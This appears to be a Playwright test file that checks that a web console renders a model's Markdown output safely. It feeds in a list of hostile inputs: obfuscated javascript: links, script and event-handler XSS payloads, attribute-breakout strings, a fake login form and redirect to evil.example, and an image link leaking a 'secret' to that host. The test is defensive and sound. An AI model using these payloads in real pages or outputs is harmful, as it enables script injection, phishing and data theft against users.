/** What a model says is shown and never obeyed: hostile Markdown, whole and in pieces, through the real page. */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { findChromium, noChromium } from '../../tools/chromium.ts'
import { openPage, startBrowser } from './browser.ts'
import { type Stage, startStage } from './stage.ts'

const program = findChromium()

/** Each tries to run a script, to load something, to leave the page or to look like a part of it. */
const hostile = [
  '[click](javascript:window.hacked=1)',
  '[click](JaVaScRiPt:window.hacked=1)',
  '[click](java\tscript:window.hacked=1)',
  '[click](  javascript:window.hacked=1)',
  '[click](&#106;avascript:window.hacked=1)',
  '[click](data:text/html,<script>window.hacked=1</script>)',
  '[click](vbscript:msgbox)',
  '[click](file:///etc/passwd)',
  '[click](blob:null/1)',
  '[click](//evil.example/x)',
  '[click](#/playground)',
  '<javascript:window.hacked=1>',
  'javascript:window.hacked=1',
  '<script>window.hacked=1</script>',
  '<img src=x onerror=window.hacked=1>',
  '<svg onload=window.hacked=1>',
  '<iframe src="javascript:window.hacked=1"></iframe>',
  '<a href="javascript:window.hacked=1">x</a>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '![tracked](https://evil.example/pixel.png?said=secret)',
  '![x](javascript:window.hacked=1)',
  '![x](data:image/svg+xml,<svg onload=window.hacked=1>)',
  '[x](https://evil.example" onmouseover="window.hacked=1)',
  '[x](https://ok.example "title\' onclick=window.hacked=1")',
  '```"><script>window.hacked=1</script>\ncode\n```',
  '```drawer live\ncode\n```',
  '# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six',
  '- [x] done\n- [ ] open',
  '| a | b |\n|---|---|\n| <script>window.hacked=1</script> | [x](javascript:window.hacked=1) |',
  `${'['.repeat(200)}deep`,
  `${'> '.repeat(60)}deep`,
  `${'- '.repeat(60)}deep`,
  '**never closed *nor this `nor that [nor (this',
  '\u202Ereversed\u202C and \u0000 and \uD800',
]

describe("a model's Markdown in the console", { skip: program === undefined && noChromium }, () => {
  let stage: Stage
  let browser: Browser

  before(async () => {
    stage = await startStage()
    browser = await startBrowser(program ?? '')
  })

  after(async () => {
    await browser?.close()
    await stage?.[Symbol.asyncDispose]()
  })

  test('nothing of a hostile corpus runs, loads, leads astray or breaks the page', async () => {
    await using opened = await openPage(browser, `${stage.url}#/playground`)
    const { page, complaints } = opened
    const loaded: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(stage.running.http)) loaded.push(request.url())
    })
    await page.getByRole('combobox', { name: 'Component' }).selectOption('echo')
    for (const text of hostile) {
      await ask(page, text)
      const found = await page.evaluate(inspect)
      assert.deepEqual(found, { unsafe: [], forbidden: [], classes: [], headings: [] }, text)
      for (const link of await page.locator('.answer a[href]').all()) await link.evaluate(pretendToClick)
    }
    assert.equal(await page.evaluate(() => 'hacked' in window), false)
    assert.deepEqual(loaded, [])
    assert.deepEqual(complaints, [])
    await page.getByRole('heading', { name: 'Playground' }).waitFor()
  })

  test('what is harmless looks as it was meant', async () => {
    await using opened = await openPage(browser, `${stage.url}#/playground`)
    const { page } = opened
    await page.getByRole('combobox', { name: 'Component' }).selectOption('echo')
    await ask(
      page,
      '# Title\n\nSee [here](https://example.com/a) or [write](mailto:a@example.com), **now**.\n\n![a cat](https://example.com/cat.png)',
    )
    const answer = page.locator('.answer')
    await answer.getByRole('heading', { level: 3, name: 'Title' }).waitFor()
    const link = answer.getByRole('link', { name: 'here' })
    assert.equal(await link.getAttribute('href'), 'https://example.com/a')
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer')
    assert.equal(await answer.getByRole('link', { name: 'write' }).getAttribute('href'), 'mailto:a@example.com')
    assert.equal(await answer.getByRole('link', { name: 'a cat' }).getAttribute('href'), 'https://example.com/cat.png')
    assert.equal(await answer.locator('img').count(), 0)
  })
})

/** Asks echo, which says the same. */
async function ask(page: Page, text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message 1' }).fill(text)
  await page.getByRole('button', { name: 'Send' }).click()
  await page.locator('.run .badge', { hasText: 'done' }).waitFor()
}

/** What must not be in an answer. Runs in the page. */
function inspect() {
  const all = Array.from(document.querySelectorAll<HTMLElement>('.answer *'))
  const addresses = all.flatMap((element) => [element.getAttribute('href'), element.getAttribute('src')])
  const allowed = new Set(
    'P BR HR H3 H4 H5 H6 EM STRONG S CODE PRE A UL OL LI INPUT TABLE THEAD TBODY TR TH TD BLOCKQUOTE EQUATION-INLINE EQUATION-BLOCK'.split(
      ' ',
    ),
  )
  return {
    unsafe: addresses.filter((address) => address !== null && !/^(https?:\/\/|mailto:)/i.test(address)),
    forbidden: all
      .filter(({ tagName, attributes }) => {
        const names = Array.from(attributes, ({ name }) => name)
        return !allowed.has(tagName) || names.some((name) => name.startsWith('on') || name === 'style' || name === 'id')
      })
      .map(({ outerHTML }) => outerHTML),
    classes: all.map(({ className }) => className).filter((name) => name !== '' && name !== 'picture'),
    headings: all.filter(({ tagName }) => tagName === 'H1' || tagName === 'H2').map(({ outerHTML }) => outerHTML),
  }
}

/** A click whose navigation is held back, so that the page stays. Runs in the page. */
function pretendToClick(link: Element): void {
  link.addEventListener('click', (event) => event.preventDefault(), { once: true })
  link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
}
